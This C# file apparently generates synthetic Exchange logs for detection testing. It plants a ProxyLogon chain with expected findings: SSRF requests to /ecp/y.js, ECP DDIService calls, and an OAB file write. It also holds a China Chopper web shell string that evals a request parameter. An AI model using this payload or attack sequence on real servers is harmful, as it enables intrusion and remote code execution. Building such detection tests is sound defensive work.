using Bulwark.LogGen.Model;
using Bulwark.LogGen.Traffic;

namespace Bulwark.LogGen.Plant;

/// <summary>
/// The ProxyLogon chain of a real incident (helsecert, 2021-03-03): SSRF through <c>/ecp/y.js</c> with an
/// <c>X-BEResource</c> cookie, logon to ECP, the OAB virtual directory's ExternalUrl set to a China Chopper
/// script and the directory reset so the script is written to disk; then the OAB generator file write
/// (CVE-2021-26858), and an earlier probe visible only in the BackEndCookie column.
/// </summary>
public sealed class ProxyLogonPlant(PlantContext c)
{
    public const string AttackerIp = "130.255.189.21";
    private const string Anchor = "ServerInfo~a]@" + Organization.ServerFqdn + ":444";
    private const string Canary = "hfqVbkuVJUOdu8yYwA3xbMGM_QJ0pNgIBvVXh4HgeJ5nvjzbNPLUxVoI6WYlS2aW9_0O2QxqyXs.";
    private const string VirtualDirectoryId = "ecd24641-d37f-4974-89f5-2e85ef7fb8d4";
    private const string Python = "python-requests/2.25.1";
    private const string SsrfExpected = "CVE-2021-26855 ProxyLogon SSRF: ServerInfo~ anchor, empty AuthenticatedUser (critical)";

    private static readonly (int Ms, string Agent, string Target, int Status)[] Chain =
    [
        (10817, "ExchangeServicesClient/0.0.0.0", "/autodiscover/autodiscover.xml?#", 200),
        (11840, Python, "/mapi/emsmdb/?#", 200),
        (13030, Python, "/ecp/proxyLogon.ecp?#", 241),
        (14588, Python, "/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=" + Canary + "&schema=OABVirtualDirectory#", 200),
        (18042, Python, "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" + Canary + "&schema=OABVirtualDirectory#", 200),
        (20359, Python, "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" + Canary + "&schema=ResetOABVirtualDirectory#", 200),
        (23288, Python, "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" + Canary + "&schema=OABVirtualDirectory#", 200),
    ];

    public IEnumerable<ScheduledEvent> Events()
    {
        yield return new ScheduledEvent(c.At(0, 23, 41, 7, 530), BackEndCookieProbe);
        for (var i = 0; i < Chain.Length; i++)
        {
            var step = i;
            yield return new ScheduledEvent(c.At(1, 6, 59, 0, Chain[i].Ms), () => SsrfStep(step));
        }

        yield return new ScheduledEvent(c.At(1, 6, 59, 17, 960), ScriptInExternalUrl);
        yield return new ScheduledEvent(c.At(1, 6, 59, 20, 290), ResetVirtualDirectory);
        yield return new ScheduledEvent(c.At(1, 6, 59, 23, 212), () => Ecp(c.At(1, 6, 59, 23, 212), "PL-03.ctx4",
            $"Set-OabVirtualDirectory.ExternalUrl=$null.Identity='{VirtualDirectoryId}'", "OABVirtualDirectory",
            "ECP server: ExternalUrl cleared after the reset (end of the chain)", "context line of PL-03; no finding of its own required"));
        yield return new ScheduledEvent(c.At(1, 7, 3, 41, 275), OabFileWrite);
    }

    private void SsrfStep(int i)
    {
        var (_, agent, target, status) = Chain[i];
        var r = Ssrf(c.At(1, 6, 59, 0, Chain[i].Ms), agent, Anchor + target, status);
        var lines = c.Logs.Write(r);
        var reset = target.Contains("ResetOABVirtualDirectory", StringComparison.Ordinal);
        var what = $"ProxyLogon step {i + 1}/7 from {AttackerIp}: POST /ecp/y.js, AnchorMailbox {Anchor}{Abridge(target)}, {agent}, HTTP {status}";
        var expected = i == 0
            ? "part of the PL-01 chain (autodiscover-only on its own; same client as steps 2-7)"
            : reset ? SsrfExpected + "; CVE-2021-27065 part A: ServerInfo~*/*Reset*VirtualDirectory# with HTTP 200 (critical)" : SsrfExpected;
        c.Manifest.Add(lines.Proxy, $"PL-01.{i + 1}", PlantKind.Attack, what, expected);
        c.Manifest.Add(lines.FrontEnd, $"PL-02.{i + 1}", PlantKind.Attack, $"IIS line of PL-01.{i + 1}: POST /ecp/y.js {agent} {status}",
            "HAFNIUM web request: POST to a one-character .js under /ecp/ with HTTP 200/241 (Sigma 67bce556, CISA); attacker user agent");
    }

    private Request Ssrf(DateTime t, string agent, string anchor, int status)
    {
        var r = c.Request(t, "Ecp", "POST", "/ecp/y.js", AttackerIp, agent, status)
            .ProxiedTo("/ecp/y.js", anchor, "X-BEResource-Cookie")
            .Sized(status == 241 ? 1200 : 900, status == 241 ? 0 : 4200, 150 + (t.Millisecond % 90));
        r.AuthType = "FBA";
        return r;
    }

    private void BackEndCookieProbe()
    {
        var r = c.Request(c.At(0, 23, 41, 7, 530), "Ecp", "POST", "/ecp/y.js", "198.51.100.77", Python, 200)
            .ProxiedTo("/ecp/y.js", "", "X-BEResource-Cookie").Sized(880, 3900, 121);
        r.BackEndCookie = "Server~" + Organization.ServerFqdn + "/ecp/y.js?~1942062522";
        r.AuthType = "FBA";
        r.InFrontEndIis = false;
        c.Manifest.Add(c.Logs.Write(r).Proxy, "PL-04", PlantKind.Attack,
            "HttpProxy Ecp row with empty AnchorMailbox and BackEndCookie Server~ex01.contoso.local/ecp/y.js?~1942062522, empty AuthenticatedUser",
            "CVE-2021-26855 via BackEndCookie Server~*/*~* (the form Test-ProxyLogon misses, CSS-Exchange#310) (high)");
    }

    private void ScriptInExternalUrl()
    {
        const string script = "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>";
        var t = c.At(1, 6, 59, 17, 960);
        Ecp(t, "PL-03.ctx1", "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", "OABVirtualDirectory",
            "ECP server: attacker reads the OAB virtual directory", "context line of PL-03; no finding of its own required", -3442);
        Ecp(t, "PL-03", $"Set-OabVirtualDirectory.ExternalUrl='{script}'.Identity='{VirtualDirectoryId}'", "OABVirtualDirectory",
            "ECP server: Set-OabVirtualDirectory with a JScript China Chopper in ExternalUrl, S:URL .../SetObject?...&schema=OABVirtualDirectory",
            "CVE-2021-27065 part B: Set-*VirtualDirectory whose Url holds a script tag (critical)");
    }

    private void ResetVirtualDirectory()
    {
        var t = c.At(1, 6, 59, 20, 290);
        Ecp(t, "PL-03.ctx2", $"Remove-OABVirtualDirectory.Force=$true.Identity='{Organization.ServerName}\\OAB (Default Web Site)'",
            "ResetOABVirtualDirectory", "ECP server: OAB virtual directory removed by the reset", "context line of PL-03; no finding of its own required");
        Ecp(t.AddMilliseconds(40), "PL-03.ctx3",
            $"New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='{Organization.ServerName}'.Role='ClientAccess'" +
            $".InternalURL='https://{Organization.ServerFqdn}/OAB'.Path='C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB'",
            "ResetOABVirtualDirectory", "ECP server: OAB virtual directory recreated by the reset", "context line of PL-03; no finding of its own required");
    }

    private void Ecp(DateTime t, string id, string command, string schema, string what, string expected, int offsetMs = 0)
    {
        var when = t.AddMilliseconds(offsetMs);
        var url = $"/ecp/DDI/DDIService.svc/{(command.StartsWith("Get", StringComparison.Ordinal) ? "GetObject" : "SetObject")}?msExchEcpCanary={Canary}&schema={schema}";
        var data = EcpEvent.Request(new Rng((ulong)when.Ticks), command, url, new Guid("3c0f9a55-8a11-4e0c-9b1e-5f5d2f6f0a01"), 180 + (when.Millisecond % 200));
        c.Manifest.Add(c.Logs.WriteEcpServer(when, data), id, PlantKind.Attack, what, expected);
    }

    private void OabFileWrite()
    {
        var at = c.Logs.WriteOabGenerator(c.At(1, 7, 3, 41, 275), "OABFileDownload.Failure",
            @"Download failed and temporary file 'C:\inetpub\wwwroot\aspnet_client\system_web\discover.aspx' needs to be removed.");
        c.Manifest.Add(at, "PL-05", PlantKind.Attack,
            @"OAB generator: download failed, temporary file 'C:\inetpub\wwwroot\aspnet_client\system_web\discover.aspx' (outside ClientAccess\OAB)",
            "CVE-2021-26858 OAB file write outside {install}ClientAccess\\OAB (critical)");
    }

    private static string Abridge(string target) => target.Length > 48 ? target[..target.IndexOf('?', StringComparison.Ordinal)] + "?...&schema=" + target[(target.LastIndexOf('=') + 1)..] : target;
}
